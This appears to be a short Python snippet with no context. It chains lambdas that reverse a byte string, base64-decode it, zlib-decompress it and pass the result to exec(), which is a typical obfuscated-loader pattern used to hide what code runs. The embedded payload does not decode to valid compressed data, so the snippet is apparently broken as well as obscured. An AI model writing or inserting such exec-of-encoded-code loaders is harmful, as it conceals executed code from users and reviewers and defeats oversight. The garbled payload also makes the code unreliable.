_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
__ = lambda ___: (_)(___)
exec((__)(b'=oQK9xHZ6J3cklGc'))
